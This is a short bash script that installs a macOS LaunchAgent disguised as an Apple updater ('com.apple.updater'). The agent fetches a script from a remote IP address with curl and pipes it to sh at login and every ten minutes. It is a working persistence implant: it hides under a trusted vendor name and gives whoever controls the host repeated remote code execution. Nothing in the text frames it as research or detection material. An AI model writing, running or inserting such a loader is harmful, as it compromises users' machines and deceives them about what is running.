#!/bin/bash
cat > ~/Library/LaunchAgents/com.apple.updater.plist <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.updater</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://203.0.113.7/m | sh</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>600</integer>
</dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.apple.updater.plist
